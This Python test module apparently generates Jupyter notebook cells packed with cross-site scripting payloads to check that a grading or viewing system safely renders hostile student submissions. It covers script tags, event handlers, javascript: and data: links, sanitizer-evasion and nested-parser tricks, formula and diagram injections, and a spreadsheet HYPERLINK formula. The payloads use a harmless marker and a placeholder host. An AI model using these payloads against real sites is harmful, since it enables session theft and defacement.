"""What a hostile student writes so that it runs, loads or leads astray in the browser of whoever looks at it.

In each text @JS@ stands for code that leaves its mark on the page, @URL@ for an address that nothing may ask for.
"""

import base64
import json

MARK = "(window.top.__pwned=window.top.__pwned||[]).push('@NAME@')"
_HTML = base64.b64encode(b"<script>parent.postMessage('x','*')</script>").decode()
_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><script>top.__pwned=["svg"]</script></svg>').decode()

MARKDOWN = {
    "script": "<script>@JS@</script>",
    "script from elsewhere": '<script src="@URL@.js"></script>',
    "picture with a handler": '<img src="x" onerror="@JS@">',
    "picture with a handler in other quotes": "<img src=x: onerror=@JS@ `>",
    "svg with a handler": '<svg onload="@JS@"></svg>',
    "svg animation": '<svg><animate onbegin="@JS@" attributeName="x" dur="1s"></animate></svg>',
    "svg with a link": '<svg><a xlink:href="javascript:@JS@"><text y="20">click</text></a></svg>',
    "details that open": '<details open ontoggle="@JS@"><summary>x</summary>y</details>',
    "frame with its own page": '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    "frame with a script for an address": '<iframe src="javascript:@JS@"></iframe>',
    "frame from elsewhere": '<iframe src="@URL@"></iframe>',
    "object": f'<object data="data:text/html;base64,{_HTML}"></object><object data="@URL@"></object>',
    "embed": '<embed src="@URL@.swf">',
    "field that takes the focus": '<input autofocus onfocus="@JS@">',
    "form": '<form action="@URL@" id="f"><button form="f" formaction="javascript:@JS@">click</button></form>',
    "link to a script": '<a href="javascript:@JS@">click</a>',
    "markdown link to a script": "[click](javascript:@JS@)",
    "reference to a script": "[click][r1]\n\n[r1]: JaVaScRiPt:@JS@",
    "link with an entity": "[click](java&#115;cript:@JS@)",
    "link with a control character": "[click](<\x01javascript:@JS@>)",
    "link with a tab": "[click](<java\tscript:@JS@>)",
    "automatic link": "<javascript:@JS@>",
    "link to another language": "[click](vbscript:@JS@)",
    "link to data": "[click](data:text/html,<script>@JS@</script>)",
    "link with a title that ends": '[click](https://example.org "x" onmouseover="@JS@")',
    "link that tells": '<a href="https://example.org" ping="@URL@">click</a>',
    "picture from elsewhere": "![x](@URL@.png)",
    "picture tag from elsewhere": '<img src="@URL@.png" srcset="@URL@.webp 2x">',
    "picture with a description that ends": '![x" onerror="@JS@](x "y" onerror="@JS@")',
    "picture of an svg": f"![x](data:image/svg+xml;base64,{_SVG})",
    "attachment that is not there": "![x](attachment:@NAME@.png)",
    "attachment with an entity": "![x](attach&#109;ent:@NAME@.png)",
    "style": '<style>@import "@URL@.css"; * { background: url(@URL@.gif) }</style>',
    "style sheet": '<link rel="stylesheet" href="@URL@.css"><link rel="prefetch" href="@URL@.html">',
    "style of an element": '<div style="background: url(@URL@.bmp); position: fixed; inset: 0; z-index: 9999">x</div>',
    "refresh": '<meta http-equiv="refresh" content="0; url=@URL@">',
    "base": '<base href="@URL@/">',
    "video": '<video poster="@URL@.jpg"><source onerror="@JS@"></video><audio src="@URL@.ogg"></audio>',
    "moving text": '<marquee onstart="@JS@">x</marquee>',
    "handler for the mouse": '<p onmouseover="@JS@" onclick="@JS@">x</p>',
    "body": '<body onload="@JS@">',
    "diagram": "```mermaid\n</pre><script>@JS@</script>\n```",
    "code in a language with a handler": '```"><img src=x onerror=@JS@>\nx\n```',
    "mathematics as a nest": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@JS@&gt;">',
    "noscript as a nest": '<noscript><p title="</noscript><img src=x onerror=@JS@>">',
    "svg as a nest": '<svg></p><style><a id="</style><img src=1 onerror=@JS@>">',
    "comment that ends early": "<!--><img src=x onerror=@JS@>-->",
    "cdata": "<![CDATA[><img src=x onerror=@JS@>]]>",
    "textarea as a nest": '<textarea><img title="</textarea><img src=x onerror=@JS@>"></textarea>',
    "heading": "# <img src=x onerror=@JS@>\n\n## x <script>@JS@</script>",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=@JS@> | [c](javascript:@JS@) |",
    "emphasis": "**<img src=x onerror=@JS@>** _[c](javascript:@JS@)_ ~~<svg onload=@JS@>~~",
    "formula that links": "$\\href{javascript:@JS@}{x}$ and $$\\href{javascript:@JS@}{y}$$",
    "formula that loads": "$\\require{html}\\href{javascript:@JS@}{x}\\class{x}{y}\\cssId{z}{\\style{background:url(@URL@)}{x}}$",
    "formula in html": "<div>$&#92;href{javascript:@JS@}{x}$ <span>\\h<!-- -->ref</span></div>",
    "formula behind an escape": r"\$\\href{javascript:@JS@}{x}\$ $$\csname href\endcsname{javascript:@JS@}{x}$$",
    "formula with html": r"$\text{<img src=x onerror=@JS@>}$ \begin{equation}<img src=x onerror=@JS@>\end{equation}",
    "id of the page's own": '<input id="test_sigmoid" class="score"><div id="statusmessage">x</div>\n\n# test_sigmoid',
    "template": "<template shadowrootmode=open><img src=x onerror=@JS@></template>",
}

TEXTS = {  # in exceptions, names of types, output
    "script": "<script>@JS@</script>",
    "picture": "<img src=x onerror=@JS@>",
    "markdown link": "[click](javascript:@JS@)",
    "markdown picture": "![x](@URL@.png)",
    "diagram": "\n```mermaid\n</pre><script>@JS@</script>\n```\n",
    "formula": r"$\href{javascript:@JS@}{x}$",
    "end of a field": '"></textarea><svg onload=@JS@>',
    "turned writing": "\u202e\u2066<img src=x onerror=@JS@>",
    "colours": "\x1b]8;;javascript:@JS@\x07click\x1b]8;;\x07\x1b[31m<b onclick=@JS@>",
    "sheet": '=HYPERLINK("@URL@","click")',
}

NAMES = ["<img src=x onerror=@JS@>", '"><svg onload=@JS@>', "a&lt;b", "x\x1b[31m", "back\\slash", "turned\u202ename"]


def filled(text: str, name: str) -> str:
    """Return a payload with its code and its address."""
    mark = MARK.replace("@NAME@", name.replace(" ", "-"))
    return text.replace("@JS@", mark).replace("@URL@", f"http://pwned.invalid/{name.replace(' ', '-')}").replace("@NAME@", name)


def markdown_cells() -> list[dict[str, object]]:
    """Return a cell for each payload, as markdown and as raw text."""
    return [
        {"cell_type": kind, "metadata": {}, "source": f"payload {name}\n\n{filled(text, name)}"}
        for name, text in MARKDOWN.items()
        for kind in ("markdown", "raw")
    ]


def code_cells() -> list[dict[str, object]]:
    """Return cells whose output, errors and values hold each payload."""
    texts = [filled(text, name) for name, text in TEXTS.items()]
    sources = [
        f"print({json.dumps(texts)})\nimport sys; print({json.dumps(texts)}, file=sys.stderr)",
        *(f"raise ValueError({json.dumps(text)})" for text in texts),
        *(f"type({json.dumps(text)}, (Exception,), {{}})" for text in texts if "\x00" not in text),
        *(f"raise type({json.dumps(text)}, (Exception,), {{}})('x')" for text in texts if "\x00" not in text),
        *(f"from IPython.display import *\ndisplay({kind}({json.dumps(texts[0])}))" for kind in ("HTML", "Javascript", "Markdown")),
        *(f"# {json.dumps(text)}" for text in texts),
    ]
    return [{"cell_type": "code", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for s in sources]
